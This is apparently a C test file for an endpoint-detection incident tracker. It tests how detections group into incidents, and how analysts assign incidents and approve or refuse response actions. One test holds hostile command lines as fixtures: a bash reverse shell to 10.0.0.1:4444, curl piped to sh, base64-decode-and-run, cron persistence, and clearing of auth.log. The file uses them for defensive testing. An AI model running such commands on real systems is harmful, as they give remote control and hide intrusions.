#include "incident/testing.h"

#define DEVICE TESTING_DEVICE
#define OTHER_DEVICE "0193b1c0-0000-7000-8000-00000000d002"

static uint64_t count_incidents(struct scene *s)
{
	struct incident_counts counts;

	CHECK(incident_counts(s->store, &scene_all, SV_NONE, &counts, &s->err) == 0);
	return counts.total;
}

/* Starts a process and has a rule find it. */
static bool found(struct scene *s, int64_t at, const struct scene_process *p, const char *rule,
		  struct incident_absorbtion *ret)
{
	return scene_start(s, DEVICE, at, p) && scene_detect_process(s, DEVICE, at, p, rule, ret);
}

static const struct scene_process sshd = {
	"{sshd}",     "{init}", "/usr/sbin/sshd", "sshd: tanaka", "/lib/systemd/systemd",
	"/sbin/init", NULL
};
static const struct scene_process shell = { "{shell}",	      "{sshd}",	      "/bin/bash", "-bash",
					    "/usr/sbin/sshd", "sshd: tanaka", "tty" };

static struct scene_process below(const char *guid, const char *parent, const char *image,
				  const char *command_line)
{
	return (struct scene_process){ guid, parent, image, command_line, NULL, NULL, NULL };
}

TEST(attacks_from_one_shell_are_one_incident_each)
{
	struct scene s;
	struct incident_absorbtion first[5], again;
	static const char *const command[] = {
		"sh -c echo aWQ= | base64 -d | sh",
		"bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"sh -c echo x > /etc/cron.d/x",
		"sh -c : > /var/log/auth.log",
		"sh -c curl http://10.0.0.1/x | sh",
	};
	static const char *const guid[] = { "{a0}", "{a1}", "{a2}", "{a3}", "{a4}" };
	static const char *const child[] = { "{b0}", "{b1}", "{b2}", "{b3}", "{b4}" };

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &sshd) && scene_start(&s, DEVICE, 10, &shell));
	for (int i = 0; i < 5; i++) {
		/* One right after the other: 5 milliseconds. */
		const struct scene_process p = below(guid[i], "{shell}", "/bin/sh", command[i]);
		const struct scene_process c = below(child[i], guid[i], "/usr/bin/tool", "tool");

		REQUIRE(found(&s, 1000 + i * 5, &p, "rule-a", &first[i]));
		CHECK_INT(first[i].what, INCIDENT_OPENED);
		REQUIRE(found(&s, 1001 + i * 5, &c, "rule-b", &again));
		CHECK_INT(again.what, INCIDENT_JOINED);
		CHECK_STR(again.incident, first[i].incident);
		REQUIRE(scene_end(&s, DEVICE, 1003 + i * 5, child[i]) &&
			scene_end(&s, DEVICE, 1004 + i * 5, guid[i]));
	}
	CHECK_INT(count_incidents(&s), 5);
	scene_close(&s);
}

TEST(pipe_in_a_shell_is_one_incident)
{
	struct scene s;
	struct incident_absorbtion a, b, c, d;
	const struct scene_process decode = below("{d}", "{shell}", "/usr/bin/base64", "base64 -d");
	const struct scene_process sh = below("{s}", "{shell}", "/bin/sh", "sh");
	const struct scene_process id = below("{i}", "{s}", "/usr/bin/id", "id");
	const struct scene_process next = below("{n}", "{shell}", "/usr/bin/shred", "shred x");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &sshd) && scene_start(&s, DEVICE, 10, &shell));
	REQUIRE(found(&s, 1000, &decode, "r1", &a) && found(&s, 1001, &sh, "r2", &b));
	REQUIRE(scene_end(&s, DEVICE, 1003, "{d}"));
	REQUIRE(found(&s, 1005, &id, "r3", &c));
	CHECK_STR(b.incident, a.incident);
	CHECK_STR(c.incident, a.incident);
	REQUIRE(scene_end(&s, DEVICE, 1006, "{i}") && scene_end(&s, DEVICE, 1007, "{s}"));
	REQUIRE(found(&s, 1008, &next, "r4", &d));
	CHECK_INT(d.what, INCIDENT_OPENED);
	scene_close(&s);
}

TEST(shell_older_than_the_agent)
{
	struct scene s;
	struct incident_absorbtion a, b, c, file, again;
	/* Nobody has told of {old}. */
	const struct scene_process p = { "{p}",	      "{old}", "/bin/sh", "sh -c x",
					 "/bin/bash", "bash",  NULL };
	const struct scene_process q = { "{q}",	      "{old}", "/bin/sh", "sh -c y",
					 "/bin/bash", "bash",  NULL };
	const struct scene_process r = below("{r}", "{p}", "/usr/bin/id", "id");

	scene_open(&s);
	REQUIRE(found(&s, 1000, &p, "r", &a) && scene_end(&s, DEVICE, 1005, "{p}"));
	REQUIRE(found(&s, 1010, &q, "r", &b) && found(&s, 1020, &r, "r", &c));
	CHECK_INT(b.what, INCIDENT_OPENED);
	CHECK_STR(c.incident, a.incident);
	/* What the shell itself writes: one incident for each rule, not one for the shell. */
	for (int i = 0; i < 2; i++) {
		scene_event(&s, DEVICE, "file_event", 2000 + i);
		scene_text(&s, "ProcessGuid", "{old}");
		scene_text(&s, "ParentProcessGuid", "{older}");
		scene_text(&s, "Image", "/bin/bash");
		scene_text(&s, "TargetFilename", "/etc/cron.d/x");
		REQUIRE(scene_detect(&s, i ? "log" : "cron", LEVEL_HIGH, i ? &again : &file));
		CHECK_INT((i ? again : file).what, INCIDENT_OPENED);
	}
	/* But two rules on the same event are one matter. */
	REQUIRE(scene_detect(&s, "other", LEVEL_CRITICAL, &file));
	CHECK_INT(file.what, INCIDENT_JOINED);
	CHECK_STR(file.incident, again.incident);
	CHECK_INT(file.level_before, LEVEL_HIGH);
	CHECK_INT(file.level, LEVEL_CRITICAL);
	scene_close(&s);
}

TEST(ancestor_that_is_known_later)
{
	struct scene s;
	struct incident_absorbtion a, b, c;
	/* The child arrives before its parent. */
	const struct scene_process child = { "{c}",	"{p}",	   "/usr/bin/id", "id",
					     "/bin/sh", "sh -c x", NULL };
	const struct scene_process parent = { "{p}",	   "{shell}", "/bin/sh", "sh -c x",
					      "/bin/bash", "-bash",   NULL };
	const struct scene_process second = below("{e}", "{p}", "/usr/bin/curl", "curl y");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &sshd) && scene_start(&s, DEVICE, 10, &shell));
	REQUIRE(found(&s, 1001, &child, "r", &a));
	REQUIRE(found(&s, 1000, &parent, "r", &b));
	CHECK_STR(b.incident, a.incident);
	REQUIRE(found(&s, 1500, &second, "r", &c));
	CHECK_STR(c.incident, a.incident);
	CHECK_INT(count_incidents(&s), 1);
	scene_close(&s);
}

TEST(other_device_and_window_are_other_incidents)
{
	struct scene s;
	struct incident_absorbtion a, b, c;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");
	const int64_t later = (INCIDENT_WINDOW_SECONDS + 1) * INT64_C(1000);

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &shell));
	REQUIRE(found(&s, 1000, &p, "r", &a));
	REQUIRE(scene_start(&s, OTHER_DEVICE, 1000, &p) &&
		scene_detect_process(&s, OTHER_DEVICE, 1000, &p, "r", &b));
	CHECK_INT(b.what, INCIDENT_OPENED);
	REQUIRE(scene_detect_process(&s, DEVICE, 1000 + later, &p, "r", &c));
	CHECK_INT(c.what, INCIDENT_OPENED);
	CHECK_INT(count_incidents(&s), 3);
	scene_close(&s);
}

TEST(same_event_and_rule_is_known)
{
	struct scene s;
	struct incident_absorbtion a, b;
	struct incident_page page;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 1000, &p));
	REQUIRE(scene_detect_process(&s, DEVICE, 1000, &p, "r", &a));
	REQUIRE(scene_detect(&s, "r", LEVEL_HIGH, &b));
	CHECK_INT(b.what, INCIDENT_KNOWN);
	CHECK_STR(b.incident, a.incident);
	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
		0);
	CHECK_INT(page.detection_count, 1);
	CHECK_INT(page.incident.detections, 1);
	scene_close(&s);
}

TEST(closed_incidents_take_nothing_more)
{
	struct scene s;
	struct incident_absorbtion a, b;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");
	const struct scene_process q = below("{q}", "{p}", "/usr/bin/id", "id");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &shell) && found(&s, 1000, &p, "r", &a));
	REQUIRE(store_begin(s.store, &s.err) == 0);
	REQUIRE(incident_set_state(s.store, &scene_all, sv_from(a.incident), 1, INCIDENT_RESOLVED,
				   SV_NONE, SV("u"), scene_time(2000), &s.err) == 0);
	REQUIRE(store_commit(s.store, &s.err) == 0);
	REQUIRE(found(&s, 3000, &q, "r", &b));
	CHECK_INT(b.what, INCIDENT_OPENED);
	scene_close(&s);
}

TEST(page_shows_tree_reasons_and_techniques)
{
	struct scene s;
	struct incident_absorbtion a;
	struct incident_page page;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");
	const struct scene_process q = below("{q}", "{p}", "/usr/bin/id", "id");
	const struct scene_process r = below("{r}", "{q}", "/usr/bin/touch", "touch");
	const struct scene_process before = below("{b}", "{p}", "/usr/bin/curl", "curl");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &sshd) && scene_start(&s, DEVICE, 10, &shell) &&
		scene_start(&s, DEVICE, 1000, &p) && scene_start(&s, DEVICE, 1000, &before) &&
		found(&s, 1001, &q, "r", &a));
	/* Children that no rule finds join the tree; one of the shell does not. */
	REQUIRE(scene_start(&s, DEVICE, 1002, &r) && scene_end(&s, DEVICE, 1003, "{r}"));
	REQUIRE(scene_start(&s, DEVICE, 1004,
			    &(struct scene_process){ "{z}", "{shell}", "/bin/ls", "ls", NULL, NULL,
						     NULL }));
	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
		0);
	REQUIRE(page.process_count == 5);
	CHECK_SV(page.process[0].guid, SV("{shell}"));
	CHECK(page.process[0].context && !page.process[0].flagged);
	CHECK_SV(page.process[1].guid, SV("{p}"));
	CHECK_SV(page.process[2].guid, SV("{q}"));
	CHECK(page.process[2].flagged && !page.process[2].context);
	CHECK_SV(page.process[3].guid, SV("{b}"));
	CHECK_SV(page.process[4].guid, SV("{r}"));
	CHECK_INT(page.process[4].ended.us, scene_time(1003).us);
	CHECK_SV(page.incident.techniques, SV("T1059.004"));
	CHECK_SV(page.incident.tactics, SV("execution"));
	CHECK_INT(page.incident.number, 1);
	CHECK_SV(page.incident.title_ja, SV("復号して実行"));
	REQUIRE(page.detection_count == 1 && page.entry_count == 1);
	CHECK_SV(page.detection[0].reasons,
		 SV("[{\"selection\":\"selection\",\"field\":\"CommandLine\",\"modifiers\":"
		    "\"contains\",\"pattern\":\"base64\",\"value\":\"echo \\\"x\\\" | base64 -d\","
		    "\"value_at\":11,\"value_n\":6,\"matched\":true}]"));
	CHECK_SV(page.detection[0].summary, SV("id"));
	CHECK_INT(page.entry[0].kind, INCIDENT_ENTRY_OPENED);
	CHECK(!page.more);
	scene_close(&s);
}

TEST(tree_is_bounded)
{
	struct scene s;
	struct incident_absorbtion a, b;
	struct incident_page page;
	char guid[40];

	scene_open(&s);
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");
	REQUIRE(scene_start(&s, DEVICE, 0, &shell) && found(&s, 1000, &p, "r", &a));
	REQUIRE(store_begin(s.store, &s.err) == 0);
	for (int i = 0; i < INCIDENT_PROCESSES_MAX + 100; i++) {
		const struct scene_process c = below(guid, "{p}", "/bin/true", "true");

		snprintf(guid, sizeof guid, "{c%d}", i);
		REQUIRE(scene_start(&s, DEVICE, 1001 + i, &c));
	}
	REQUIRE(scene_commit(&s));
	/* Detections still find a place. */
	const struct scene_process last = below("{last}", "{p}", "/bin/evil", "evil");
	REQUIRE(found(&s, 3000, &last, "r2", &b));
	CHECK_STR(b.incident, a.incident);
	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
		0);
	CHECK_INT(page.process_count, INCIDENT_PROCESSES_MAX - 100 + 1);
	CHECK_SV(page.process[page.process_count - 1].guid, SV("{last}"));
	scene_close(&s);
}

static int64_t ask(struct scene *s, const char *sql)
{
	struct store_query *query = store_query(s->store, sql, &s->err);
	int64_t number = -1;

	if (query && store_step(query, &s->err) == 1)
		number = store_int(query, 0);
	store_done(query);
	return number;
}

TEST(processes_of_a_device_are_bounded)
{
	struct scene s;
	char guid[40];
	int64_t most = 0;

	scene_open(&s);
	for (int round = 0; round < 30; round++) {
		int64_t now;

		REQUIRE(store_begin(s.store, &s.err) == 0);
		for (int i = 0; i < 1000; i++) {
			const struct scene_process p = below(guid, "{shell}", "/bin/true", "true");

			snprintf(guid, sizeof guid, "{%d.%d}", round, i);
			REQUIRE(scene_start(&s, DEVICE, round * 1000 + i, &p));
		}
		REQUIRE(scene_commit(&s));
		now = ask(&s, "SELECT sum(processes) FROM incident_log");
		most = now > most ? now : most;
	}
	CHECK(most >= INCIDENT_DEVICE_PROCESSES_MAX &&
	      most < 2 * INCIDENT_DEVICE_PROCESSES_MAX + 1000);
	CHECK(ask(&s, "SELECT count(*) FROM incident_log") < 64);
	REQUIRE(store_begin(s.store, &s.err) == 0);
	CHECK_INT(incident_expire_processes(s.store, (struct instant){ 0 }, 10, &s.err), 0);
	CHECK_INT(incident_expire_processes(s.store, (struct instant){ INT64_MAX }, 2, &s.err), 2);
	REQUIRE(store_commit(s.store, &s.err) == 0);
	scene_close(&s);
}

TEST(many_small_batches_are_merged)
{
	struct scene s;
	struct incident_absorbtion a, b;
	char guid[40];
	const struct scene_process old = below("{old}", "{shell}", "/bin/sh", "sh -c long");
	const struct scene_process child = below("{child}", "{old}", "/usr/bin/id", "id");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &shell) && found(&s, 1, &old, "r", &a));
	for (int i = 0; i < 300; i++) {
		const struct scene_process p = below(guid, "{shell}", "/bin/true", "true");

		snprintf(guid, sizeof guid, "{%d}", i);
		REQUIRE(scene_start(&s, DEVICE, 10 + i, &p) && scene_end(&s, DEVICE, 11 + i, guid));
	}
	CHECK(ask(&s, "SELECT count(*) FROM incident_log") <= 64);
	/* Another program takes over: what runs on is still known. */
	incident_tracker_clear(s.tracker);
	REQUIRE(found(&s, 1000, &child, "r2", &b));
	CHECK_STR(b.incident, a.incident);
	/* The ended ones go an hour later. */
	for (int i = 0; i < 70; i++)
		REQUIRE(scene_end(&s, DEVICE, 4000000 + i, "{child}"));
	for (int i = 0; i < 70; i++) {
		const struct scene_process p = below(guid, "{shell}", "/bin/true", "true");

		snprintf(guid, sizeof guid, "{late%d}", i);
		REQUIRE(scene_start(&s, DEVICE, 4000100 + i, &p));
	}
	CHECK(ask(&s, "SELECT sum(processes) FROM incident_log") < 200);
	scene_close(&s);
}

TEST(rolled_back_processes_are_forgotten)
{
	struct scene s;
	struct incident_absorbtion a, b;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");
	const struct scene_process q = below("{q}", "{p}", "/usr/bin/id", "id");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &shell));
	REQUIRE(store_begin(s.store, &s.err) == 0 && scene_start(&s, DEVICE, 1, &p) &&
		scene_detect_process(&s, DEVICE, 1, &p, "r", &a));
	store_rollback(s.store);
	incident_tracker_clear(s.tracker);
	CHECK_INT(count_incidents(&s), 0);
	/* Worked on again: the same once more. */
	REQUIRE(found(&s, 1, &p, "r", &a) && found(&s, 2, &q, "r", &b));
	CHECK_INT(a.what, INCIDENT_OPENED);
	CHECK_STR(b.incident, a.incident);
	CHECK_INT(count_incidents(&s), 1);
	scene_close(&s);
}

TEST(writers_need_a_transaction)
{
	struct scene s;
	struct incident_absorbtion a;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &p) && scene_detect_process(&s, DEVICE, 0, &p, "r", &a));
	CHECK(incident_note(s.store, &scene_all, sv_from(a.incident), SV("x"), SV("u"),
			    scene_time(0), &s.err) == -1);
	CHECK_INT(s.err.code, ERR_INTERNAL);
	CHECK(incident_expire_actions(s.store, scene_time(0), &s.err) == -1);
	scene_close(&s);
}

/* ==== what people do ==== */

static int assign(struct scene *s, struct sv id, uint64_t version, struct sv to)
{
	return incident_assign(s->store, &scene_all, id, version, to, SV("boss"), scene_time(9000),
			       &s->err);
}

TEST(assigning_states_and_notes)
{
	struct scene s;
	struct incident_absorbtion a;
	struct incident_page page;
	struct incident_counts counts;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");
	const struct sv stranger = SV("0193b1c0-0000-7000-8000-00000000c009");
	const struct incident_scope foreign = { .company = &stranger, .count = 1 };
	char note[INCIDENT_TEXT_MAX + 1];
	struct sv id;

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &p) && scene_detect_process(&s, DEVICE, 0, &p, "r", &a));
	id = sv_from(a.incident);
	REQUIRE(store_begin(s.store, &s.err) == 0);
	CHECK(assign(&s, id, 2, SV("tanaka")) == -1);
	CHECK_INT(s.err.code, ERR_CONFLICT);
	CHECK(assign(&s, id, 1, SV("tanaka")) == 0);
	CHECK(assign(&s, id, 1, SV("sato")) == -1);
	CHECK(assign(&s, id, 2, SV("")) == 0);
	CHECK(assign(&s, id, 3, SV("sato")) == 0);
	CHECK(incident_set_state(s.store, &scene_all, id, 4, INCIDENT_FALSE_POSITIVE, SV(" "),
				 SV("sato"), scene_time(9001), &s.err) == -1);
	CHECK_INT(s.err.code, ERR_RANGE);
	CHECK(incident_set_state(s.store, &scene_all, id, 4, INCIDENT_CLOSED, SV("x"), SV("sato"),
				 scene_time(9001), &s.err) == -1);
	CHECK_INT(s.err.code, ERR_CONFLICT);
	CHECK(incident_set_state(s.store, &foreign, id, 4, INCIDENT_RESOLVED, SV("x"), SV("sato"),
				 scene_time(9001), &s.err) == -1);
	CHECK_INT(s.err.code, ERR_NOT_FOUND);
	CHECK(incident_set_state(s.store, &scene_all, id, 4, INCIDENT_FALSE_POSITIVE,
				 SV("定期作業"), SV("sato"), scene_time(9001), &s.err) == 0);
	memset(note, 'x', sizeof note);
	CHECK(incident_note(s.store, &scene_all, id, (struct sv){ note, INCIDENT_TEXT_MAX },
			    SV("sato"), scene_time(9002), &s.err) == 0);
	CHECK(incident_note(s.store, &scene_all, id, (struct sv){ note, sizeof note }, SV("sato"),
			    scene_time(9002), &s.err) == -1);
	CHECK_INT(s.err.code, ERR_TOO_LARGE);
	CHECK(incident_note(s.store, &scene_all, id, SV("\n"), SV("sato"), scene_time(9002),
			    &s.err) == -1);
	CHECK(incident_note(s.store, &scene_all, id, SV("\xff"), SV("sato"), scene_time(9002),
			    &s.err) == -1);
	CHECK(incident_note(s.store, &foreign, id, SV("x"), SV("sato"), scene_time(9002), &s.err) ==
	      -1);
	CHECK_INT(s.err.code, ERR_NOT_FOUND);
	REQUIRE(store_commit(s.store, &s.err) == 0);
	REQUIRE(incident_load(s.store, &scene_all, id, s.arena, &page, &s.err) == 0);
	CHECK_INT(page.incident.version, 5);
	CHECK_SV(page.incident.assignee, SV("sato"));
	CHECK_INT(page.incident.state, INCIDENT_FALSE_POSITIVE);
	/* opened; assigned+state; assigned+state; assigned+state; judged+state; note */
	CHECK_INT(page.entry_count, 10);
	CHECK_INT(page.entry[9].kind, INCIDENT_ENTRY_NOTE);
	CHECK_SV(page.entry[8].text, SV("定期作業"));
	CHECK_INT(page.entry[7].kind, INCIDENT_ENTRY_JUDGED);
	CHECK_INT(page.incident.judgement, INCIDENT_NOT_REAL); /* a person said so */
	CHECK(incident_load(s.store, &foreign, id, s.arena, &page, &s.err) == -1);
	CHECK_INT(s.err.code, ERR_NOT_FOUND);
	REQUIRE(incident_counts(s.store, &scene_all, SV_NONE, &counts, &s.err) == 0);
	CHECK_INT(counts.total, 1);
	CHECK_INT(counts.open, 0);
	CHECK_INT(counts.by_state[INCIDENT_FALSE_POSITIVE], 1);
	CHECK_INT(counts.by_state[INCIDENT_NEW], 0);
	REQUIRE(incident_counts(s.store, &foreign, SV_NONE, &counts, &s.err) == 0);
	CHECK_INT(counts.total, 0);
	scene_close(&s);
}

TEST(actions_from_wish_to_result)
{
	struct scene s;
	struct incident_absorbtion a;
	struct incident_page page;
	const struct incident_action *waiting;
	const struct scene_process p = below("{p}", "{shell}", "/bin/sh", "sh -c x");
	char action[UUID_TEXT_MAX], other[UUID_TEXT_MAX];
	size_t count;
	struct incident_wish wish = {
		.kind = ACTION_KILL,
		.target = SV("{p}"),
		.actor = SV("tanaka"),
		.now = scene_time(5000),
		.expiry = scene_time(65000),
	};

	scene_open(&s);
	REQUIRE(scene_start(&s, DEVICE, 0, &p) && scene_detect_process(&s, DEVICE, 0, &p, "r", &a));
	wish.incident = sv_from(a.incident);
	REQUIRE(store_begin(s.store, &s.err) == 0);
	CHECK(incident_request_action(s.store, &scene_all, &wish, action, &s.err) == -1);
	CHECK_INT(s.err.code, ERR_RANGE); /* no reason */
	wish.reason = SV("runs a decoded script");
	wish.target = SV_NONE;
	CHECK(incident_request_action(s.store, &scene_all, &wish, action, &s.err) == -1);
	wish.target = SV("{p}");
	wish.expiry = wish.now;
	CHECK(incident_request_action(s.store, &scene_all, &wish, action, &s.err) == -1);
	wish.expiry = scene_time(65000);
	REQUIRE(incident_request_action(s.store, &scene_all, &wish, action, &s.err) == 0);
	CHECK(incident_request_action(s.store, &scene_all, &wish, other, &s.err) == -1);
	CHECK_INT(s.err.code, ERR_CONFLICT); /* the twin */
	CHECK(incident_action_sent(s.store, sv_from(action), 7, scene_time(5001), &s.err) == -1);
	CHECK(incident_approve_action(s.store, &scene_all, sv_from(action), SV("boss"),
				      scene_time(5001), &s.err) == 0);
	CHECK(incident_approve_action(s.store, &scene_all, sv_from(action), SV("boss"),
				      scene_time(5001), &s.err) == -1);
	CHECK(incident_actions_waiting(s.store, SV(DEVICE), 10, s.arena, &waiting, &count,
				       &s.err) == 0);
	REQUIRE(count == 1);
	CHECK_STR(waiting[0].id.p, action);
	CHECK_SV(waiting[0].target, SV("{p}"));
	CHECK(incident_action_sent(s.store, sv_from(action), 7, scene_time(5002), &s.err) == 0);
	CHECK(incident_action_result(s.store, SV(TESTING_COMPANY), SV(OTHER_DEVICE),
				     sv_from(action), true, SV("x"), scene_time(5003),
				     &s.err) == -1);
	CHECK_INT(s.err.code, ERR_NOT_FOUND);
	CHECK(incident_action_result(s.store, SV("other"), SV(DEVICE), sv_from(action), true,
				     SV("x"), scene_time(5003), &s.err) == -1);
	CHECK(incident_action_result(s.store, SV(TESTING_COMPANY), SV(DEVICE), sv_from(action),
				     true, SV("3 processes ended"), scene_time(5003), &s.err) == 0);
	CHECK(incident_action_result(s.store, SV(TESTING_COMPANY), SV(DEVICE), sv_from(action),
				     false, SV("y"), scene_time(5004), &s.err) == 0);
	REQUIRE(store_commit(s.store, &s.err) == 0);
	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
		0);
	REQUIRE(page.action_count == 1);
	CHECK_INT(page.action[0].state, ACTION_DONE);
	CHECK_INT(page.action[0].order, 7);
	CHECK_SV(page.action[0].result, SV("3 processes ended"));
	CHECK_SV(page.action[0].approved_by, SV("boss"));
	CHECK_INT(page.entry_count, 5); /* opened, proposed, approved, sent, done */
	scene_close(&s);
}

TEST(actions_without_incident_refused_and_expired)
{
	struct scene s;
	const struct incident_action *action;
	struct incident_action one;
	struct incident_owner owner;
	char isolate[UUID_TEXT_MAX], collect[UUID_TEXT_MAX];
	const struct sv stranger = SV("0193b1c0-0000-7000-8000-00000000c009");
	const struct incident_scope foreign = { .company = &stranger, .count = 1 };
	size_t count;
	struct incident_wish wish = {
		.kind = ACTION_ISOLATE,
		.company = SV(TESTING_COMPANY),
		.device = SV(DEVICE),
		.reason = SV("lost"),
		.actor = SV("tanaka"),
		.now = scene_time(0),
		.expiry = scene_time(60000),
	};

	scene_open(&s);
	REQUIRE(store_begin(s.store, &s.err) == 0);
	CHECK(incident_request_action(s.store, &foreign, &wish, isolate, &s.err) == -1);
	CHECK_INT(s.err.code, ERR_NOT_FOUND);
	REQUIRE(incident_request_action(s.store, &scene_all, &wish, isolate, &s.err) == 0);
	wish.kind = ACTION_COLLECT;
	REQUIRE(incident_request_action(s.store, &scene_all, &wish, collect, &s.err) == 0);
	CHECK(incident_refuse_action(s.store, &foreign, sv_from(isolate), SV("no"), SV("boss"),
				     scene_time(1), &s.err) == -1);
	CHECK(incident_refuse_action(s.store, &scene_all, sv_from(isolate), SV("no"), SV("boss"),
				     scene_time(1), &s.err) == 0);
	CHECK_INT(incident_expire_actions(s.store, scene_time(59999), &s.err), 0);
	CHECK_INT(incident_expire_actions(s.store, scene_time(60000), &s.err), 1);
	REQUIRE(store_commit(s.store, &s.err) == 0);
	REQUIRE(incident_actions(s.store, &scene_all, SV(DEVICE), 10, s.arena, &action, &count,
				 &s.err) == 0);
	REQUIRE(count == 2);
	CHECK_INT(action[0].state, ACTION_EXPIRED);
	CHECK_INT(action[1].state, ACTION_REFUSED);
	REQUIRE(incident_actions(s.store, &foreign, SV(DEVICE), 10, s.arena, &action, &count,
				 &s.err) == 0);
	CHECK_INT(count, 0);
	CHECK(incident_action_load(s.store, &foreign, sv_from(isolate), s.arena, &one, &s.err) ==
	      -1);
	CHECK_INT(s.err.code, ERR_NOT_FOUND);
	CHECK_INT(incident_owner(s.store, INCIDENT_OBJECT_ACTION, sv_from(isolate), s.arena, &owner,
				 &s.err),
		  1);
	CHECK_SV(owner.company, SV(TESTING_COMPANY));
	CHECK_SV(owner.incident, SV(""));
	CHECK_INT(incident_owner(s.store, INCIDENT_OBJECT, sv_from(isolate), s.arena, &owner,
				 &s.err),
		  0);
	scene_close(&s);
}

/* ==== properties ==== */

#define TREES 12
#define NODES 60

struct node {
	char guid[16], parent[16];
	size_t tree;
	int64_t at;
};

/* Command lines of one session shell, each a random tree; returns the nodes in time order. */
static size_t grow(uint64_t *random, struct node node[NODES])
{
	size_t count = 0;

	for (size_t tree = 0; tree < TREES; tree++) {
		const size_t size = 1 + testing_random(random) % 5, first = count;

		for (size_t i = 0; i < size; i++) {
			const size_t up = first + (i ? testing_random(random) % i : 0);
			struct node *n = &node[count++];

			snprintf(n->guid, sizeof n->guid, "{t%zu.%zu}", tree, i);
			snprintf(n->parent, sizeof n->parent, "%s", i ? node[up].guid : "{shell}");
			n->tree = tree;
			n->at = 1000 + (int64_t)tree * 1000 + (int64_t)i;
		}
	}
	return count;
}

static void shuffle(uint64_t *random, size_t *order, size_t count)
{
	for (size_t i = 0; i < count; i++)
		order[i] = i;
	for (size_t i = count; i > 1; i--) {
		const size_t j = testing_random(random) % i, kept = order[i - 1];

		order[i - 1] = order[j];
		order[j] = kept;
	}
}

/* Whatever the order of detections, a tree is one incident, and no two trees are. */
static bool trees_are_incidents(struct scene *s, uint64_t seed)
{
	struct node node[NODES];
	char incident[TREES][UUID_TEXT_MAX] = { "" };
	size_t order[NODES];
	uint64_t random = seed;
	const size_t count = grow(&random, node);
	char device[UUID_TEXT_MAX];

	snprintf(device, sizeof device, "0193b1c0-0000-7000-8000-%012llx",
		 (unsigned long long)seed);
	if (!scene_start(s, device, 0, &shell))
		return false;
	for (size_t i = 0; i < count; i++) {
		const struct scene_process p =
			below(node[i].guid, node[i].parent, "/bin/sh", "sh -c x");

		if (!scene_start(s, device, node[i].at, &p))
			return false;
	}
	shuffle(&random, order, count);
	for (size_t k = 0; k < count; k++) {
		const struct node *n = &node[order[k]];
		const struct scene_process p = below(n->guid, n->parent, "/bin/sh", "sh -c x");
		struct incident_absorbtion absorbed;

		if (!scene_detect_process(s, device, n->at, &p, "r", &absorbed))
			return false;
		if (incident[n->tree][0] == '\0') {
			memcpy(incident[n->tree], absorbed.incident, UUID_TEXT_MAX);
			if (absorbed.what != INCIDENT_OPENED)
				return false;
		} else if (strcmp(incident[n->tree], absorbed.incident) != 0) {
			return false;
		}
	}
	return true;
}

TEST(property_trees_are_incidents)
{
	struct scene s;

	scene_open(&s);
	REQUIRE(store_begin(s.store, &s.err) == 0);
	for (uint64_t seed = 1; seed <= 40; seed++) {
		if (trees_are_incidents(&s, seed))
			continue;
		test_failed = true;
		printf("# seed %d: %s\n", (int)seed, s.err.text);
		break;
	}
	REQUIRE(store_commit(s.store, &s.err) == 0);
	CHECK_INT(count_incidents(&s), 40 * TREES);
	scene_close(&s);
}
